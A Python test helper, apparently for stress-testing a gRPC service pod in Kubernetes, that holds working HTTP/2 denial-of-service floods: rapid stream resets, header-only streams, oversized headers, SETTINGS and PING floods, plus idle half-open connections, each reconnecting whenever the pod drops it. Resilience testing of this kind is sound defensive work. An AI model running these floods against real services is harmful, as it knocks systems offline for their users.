"""Peers that mean ill: what they send a pod as fast as they can, with a certificate that lets them in."""

import asyncio
import ssl
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

from grpc_common.testing.http2 import (
    END_HEADERS,
    HEADERS,
    HELLO,
    PING,
    RST_STREAM,
    SETTINGS,
    frame,
    literal,
    request,
)

_CONNECTIONS = 4

_PAUSE = 0.1
"""Seconds until a connection that was ended is made again."""

_IDLE = 300
"""Connections of a peer that says nothing; k8s/base allows 500 in all."""

_CALL = request("/user.UserService/GetUser")


def _streams(count: int, one: Callable[[int], bytes]) -> bytes:
    return HELLO + b"".join(one(stream) for stream in range(1, 2 * count, 2))


def _headers(stream: int, more: bytes = b"") -> bytes:
    return frame(HEADERS, stream, _CALL + more, flags=END_HEADERS)


FLOODS = {
    "calls-without-message": _streams(5_000, _headers),
    "resets": _streams(5_000, lambda stream: _headers(stream) + frame(RST_STREAM, stream, bytes(4))),
    "large-headers": _streams(300, lambda stream: _headers(stream, literal(b"x", b"v" * 15_000))),
    "settings": HELLO + frame(SETTINGS, payload=b"\0\4\0\1\0\0") * 20_000,
    "pings": HELLO + frame(PING, payload=bytes(8)) * 20_000,
}
"""What one connection sends."""

SILENT = "half-handshakes"
"""The kind that sends nothing, not even the beginning of TLS."""


async def attack(kind: str, address: str, port: int, certificates: Path, seconds: float) -> None:
    """Attack a pod for so many seconds, again whenever it hangs up."""
    if kind == SILENT:
        peers = [_hold(address, port, seconds) for _ in range(_IDLE)]
    else:
        context = ssl.create_default_context(cafile=certificates / "ca.crt")
        context.check_hostname = False
        context.load_cert_chain(certificates / "tls.crt", certificates / "tls.key")
        context.set_alpn_protocols(["h2"])
        peers = [_flood_for_ever(address, port, context, FLOODS[kind]) for _ in range(_CONNECTIONS)]
    with suppress(TimeoutError):
        async with asyncio.timeout(seconds):
            await asyncio.gather(*peers)


async def _hold(address: str, port: int, seconds: float) -> None:
    with suppress(OSError):
        _, writer = await asyncio.open_connection(address, port)
        try:
            await asyncio.sleep(seconds)
        finally:
            writer.transport.abort()


async def _flood_for_ever(address: str, port: int, context: ssl.SSLContext, sent: bytes) -> None:
    while True:
        await _flood(address, port, context, sent)
        await asyncio.sleep(_PAUSE)


async def _flood(address: str, port: int, context: ssl.SSLContext, sent: bytes) -> None:
    with suppress(OSError):
        reader, writer = await asyncio.open_connection(address, port, ssl=context)
        try:
            async with asyncio.TaskGroup() as both:
                both.create_task(_read_all(reader))
                both.create_task(_write(writer, sent))
        finally:
            writer.transport.abort()


async def _write(writer: asyncio.StreamWriter, sent: bytes) -> None:
    with suppress(OSError):
        writer.write(sent)
        await writer.drain()


async def _read_all(reader: asyncio.StreamReader) -> None:
    with suppress(OSError):
        while await reader.read(2**16):
            pass
